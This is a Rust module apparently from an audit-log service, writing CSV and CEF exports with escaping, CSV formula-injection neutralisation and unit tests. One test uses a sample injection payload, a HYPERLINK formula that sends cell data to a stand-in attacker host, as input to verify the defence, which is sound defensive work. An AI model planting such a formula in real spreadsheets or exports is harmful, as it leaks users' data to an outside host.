//! Audit log export formats: CSV (Pulumi's header, then the hash-chain columns) and CEF.
//!
//! Both are written page by page from an [`AuditExport`], so a response streams with
//! memory that does not grow with the number of events. Every field that the chain hash
//! covers is present, so an auditor can re-verify an exported file offline (see
//! `stackgate-core/src/chain.rs` for the canonical encoding).

use axum::body::Body;
use axum::http::header;
use axum::response::Response;
use bytes::Bytes;
use futures_util::stream::{self, Stream, StreamExt};
use stackgate_core::catalog::EventType;
use stackgate_core::service::AuditExport;
use stackgate_store::AuditEvent;

use crate::iso;

/// The columns of a CSV export: Pulumi's nine, then stackgate's chain columns.
pub const CSV_HEADER: [&str; 15] = [
    "Timestamp",
    "Name",
    "Login",
    "Event",
    "Description",
    "SourceIP",
    "RequireOrgAdmin",
    "RequireStackAdmin",
    "AuthenticationFailure",
    "TokenID",
    "TokenName",
    "Email",
    "Sequence",
    "PreviousHash",
    "Hash",
];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Format {
    Csv,
    Cef,
}

impl Format {
    pub fn parse(s: Option<&str>) -> Option<Format> {
        match s.unwrap_or("csv") {
            "csv" | "CSV" => Some(Format::Csv),
            "cef" | "CEF" => Some(Format::Cef),
            _ => None,
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Cef => "cef",
        }
    }
}

/// Neutralises a CSV cell that a spreadsheet would evaluate as a formula (OWASP's rule:
/// a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`,
/// which spreadsheets show as text and do not evaluate).
fn csv_cell(value: String) -> String {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{value}"),
        _ => value,
    }
}

fn csv_record(e: &AuditEvent) -> [String; 15] {
    csv_fields(e).map(csv_cell)
}

fn csv_fields(e: &AuditEvent) -> [String; 15] {
    let ev = &e.event;
    [
        iso(ev.timestamp),
        ev.actor.name.clone(),
        ev.actor.login.clone(),
        ev.event.clone(),
        ev.description.clone(),
        ev.source_ip.clone(),
        ev.req_org_admin.to_string(),
        ev.req_stack_admin.to_string(),
        ev.auth_failure.to_string(),
        ev.actor.token_id.clone().unwrap_or_default(),
        ev.actor.token_name.clone().unwrap_or_default(),
        ev.actor.email.clone(),
        e.link.seq.to_string(),
        e.link.prev_hash.clone(),
        e.link.hash.clone(),
    ]
}

/// CSV lines for a page (and the header first when `header`), with RFC 4180 quoting.
pub fn csv_chunk(events: &[AuditEvent], header: bool) -> Vec<u8> {
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::with_capacity(events.len() * 256));
    // Writing to a Vec cannot fail; an error here would be a bug in the csv crate.
    let mut ok = if header {
        w.write_record(CSV_HEADER).is_ok()
    } else {
        true
    };
    for e in events {
        ok &= w.write_record(csv_record(e)).is_ok();
    }
    if !ok {
        tracing::error!("csv encoding failed");
    }
    w.into_inner().unwrap_or_default()
}

/// Escapes a CEF header field: backslash and pipe; no line breaks.
fn cef_header(s: &str) -> String {
    s.replace('\\', "\\\\")
        .replace('|', "\\|")
        .replace(['\r', '\n'], " ")
}

/// Escapes a CEF extension value: backslash, equals sign, line breaks; any other control
/// character (which input validation refuses, but older rows may hold) becomes a space.
fn cef_value(s: &str) -> String {
    s.replace('\\', "\\\\")
        .replace('=', "\\=")
        .replace('\r', "\\r")
        .replace('\n', "\\n")
        .replace(|c: char| c.is_control(), " ")
}

pub fn cef_line(e: &AuditEvent) -> String {
    let ev = &e.event;
    let name = EventType::from_id(&ev.event).map_or(ev.event.as_str(), |t| t.info().display_name);
    let severity = if ev.auth_failure { 7 } else { 3 };
    let ext = [
        format!("rt={}", ev.timestamp.saturating_mul(1000)),
        format!("suser={}", cef_value(&ev.actor.login)),
        format!("suid={}", cef_value(&ev.actor.name)),
        format!("src={}", cef_value(&ev.source_ip)),
        format!("msg={}", cef_value(&ev.description)),
        format!(
            "cs1Label=tokenID cs1={}",
            cef_value(ev.actor.token_id.as_deref().unwrap_or(""))
        ),
        format!(
            "cs2Label=tokenName cs2={}",
            cef_value(ev.actor.token_name.as_deref().unwrap_or(""))
        ),
        format!("cs3Label=prevHash cs3={}", cef_value(&e.link.prev_hash)),
        format!("cs4Label=hash cs4={}", cef_value(&e.link.hash)),
        format!("cs5Label=email cs5={}", cef_value(&ev.actor.email)),
        format!("cn1Label=sequence cn1={}", e.link.seq),
        format!(
            "cs6Label=flags cs6=reqOrgAdmin:{},reqStackAdmin:{},authFailure:{}",
            ev.req_org_admin, ev.req_stack_admin, ev.auth_failure
        ),
    ];
    format!(
        "CEF:0|stackgate|stackgate|{}|{}|{}|{}|{}\n",
        env!("CARGO_PKG_VERSION"),
        cef_header(&ev.event),
        cef_header(name),
        severity,
        ext.join(" ")
    )
}

/// The response body: pages read on demand and encoded as they come.
pub fn body_stream(
    export: AuditExport,
    format: Format,
) -> impl Stream<Item = Result<Bytes, std::io::Error>> + Send {
    let header = match format {
        Format::Csv => Some(Ok(Bytes::from(csv_chunk(&[], true)))),
        Format::Cef => None,
    };
    let pages = stream::unfold(Some(export), move |state| async move {
        let mut export = state?;
        match export.next_page().await {
            Ok(Some(events)) => {
                let chunk = match format {
                    Format::Csv => csv_chunk(&events, false),
                    Format::Cef => events.iter().map(cef_line).collect::<String>().into_bytes(),
                };
                Some((Ok(Bytes::from(chunk)), Some(export)))
            }
            Ok(None) => None,
            Err(e) => {
                // The status line is gone; cut the body so the client sees a failed transfer.
                tracing::error!(error = %e, "audit export failed");
                Some((Err(std::io::Error::other("audit export failed")), None))
            }
        }
    });
    // Fused: the compression layer may poll once more after the end.
    stream::iter(header).chain(pages).fuse()
}

/// The export response: a plain-text attachment named `auditlogs-<org>.<format>` whose
/// body streams from `export`. The API and the console answer an export alike.
pub fn response(
    org: &str,
    export: AuditExport,
    format: Format,
) -> Result<Response, axum::http::Error> {
    let disposition = format!(
        "attachment; filename=\"auditlogs-{org}.{}\"",
        format.extension()
    );
    Response::builder()
        .header(header::CONTENT_TYPE, "text/plain; charset=utf-8")
        .header(header::CONTENT_DISPOSITION, disposition)
        .body(Body::from_stream(body_stream(export, format)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use stackgate_store::{AuditActor, ChainLink, NewAuditEvent};

    fn event(description: &str) -> AuditEvent {
        AuditEvent {
            id: 1,
            event: NewAuditEvent {
                org_id: "o".into(),
                timestamp: 1_700_000_000,
                event: "member-added".into(),
                description: description.into(),
                actor: AuditActor {
                    login: "ali|ce".into(),
                    name: "Alice \"A\", Admin".into(),
                    email: "a@example.com".into(),
                    token_id: Some("t-1".into()),
                    token_name: Some("ci=bot".into()),
                },
                source_ip: "10.0.0.1".into(),
                req_org_admin: true,
                req_stack_admin: false,
                auth_failure: false,
            },
            link: ChainLink {
                seq: 7,
                prev_hash: "aa".into(),
                hash: "bb".into(),
            },
        }
    }

    #[test]
    fn csv_quotes_commas_quotes_and_newlines() {
        let out = String::from_utf8(csv_chunk(&[event("line one\nline, \"two\"")], true))
            .unwrap_or_default();
        let mut lines = out.split("\r\n");
        assert_eq!(
            lines.next(),
            Some("Timestamp,Name,Login,Event,Description,SourceIP,RequireOrgAdmin,RequireStackAdmin,AuthenticationFailure,TokenID,TokenName,Email,Sequence,PreviousHash,Hash")
        );
        assert!(out.contains("\"Alice \"\"A\"\", Admin\""), "{out}");
        assert!(out.contains("\"line one\nline, \"\"two\"\"\""), "{out}");
        assert!(
            out.contains(",true,false,false,t-1,ci=bot,a@example.com,7,aa,bb\r\n"),
            "{out}"
        );
        let mut r = csv::Reader::from_reader(out.as_bytes());
        let rows: Vec<csv::StringRecord> = r.records().filter_map(Result::ok).collect();
        assert_eq!(rows.len(), 1);
        assert_eq!(&rows[0][4], "line one\nline, \"two\"");
    }

    #[test]
    fn extreme_timestamps_do_not_overflow() {
        // Found by fuzz/fuzz_targets/audit_writers.rs: `timestamp * 1000` overflowed.
        for t in [i64::MAX, i64::MIN] {
            let mut e = event("d");
            e.event.timestamp = t;
            assert!(cef_line(&e).ends_with('\n'));
            assert!(!csv_chunk(&[e], false).is_empty());
        }
    }

    #[test]
    fn csv_cells_that_spreadsheets_would_evaluate_are_neutralised() {
        let formula = r#"=HYPERLINK("http://evil.example/?d="&A2,"Open")"#;
        for (value, want) in [
            (formula, format!("'{formula}")),
            ("+1+1", "'+1+1".to_string()),
            ("-2", "'-2".to_string()),
            ("@SUM(A1)", "'@SUM(A1)".to_string()),
            ("\tx", "'\tx".to_string()),
            ("\rx", "'\rx".to_string()),
            ("plain = text", "plain = text".to_string()),
        ] {
            let mut e = event("d");
            e.event.actor.name = value.to_string();
            let out = String::from_utf8(csv_chunk(&[e], false)).expect("utf-8");
            let mut r = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(out.as_bytes());
            let row = r.records().next().expect("a row").expect("a record");
            assert_eq!(&row[1], want.as_str(), "{value:?}");
        }
    }

    #[test]
    fn cef_escapes_header_and_extension() {
        let line = cef_line(&event("a=b\\c\nd|e"));
        assert!(line.starts_with("CEF:0|stackgate|stackgate|"));
        assert!(line.contains("|member-added|Member Added|3|"));
        assert!(line.contains("msg=a\\=b\\\\c\\nd|e "), "{line}");
        assert!(line.contains("suser=ali|ce "), "{line}");
        assert!(line.contains("cs2=ci\\=bot "), "{line}");
        assert!(line.contains("cn1Label=sequence cn1=7"));
        assert_eq!(line.matches('\n').count(), 1, "one line per event");
        assert!(cef_header("a|b\\c").eq("a\\|b\\\\c"));
    }
}
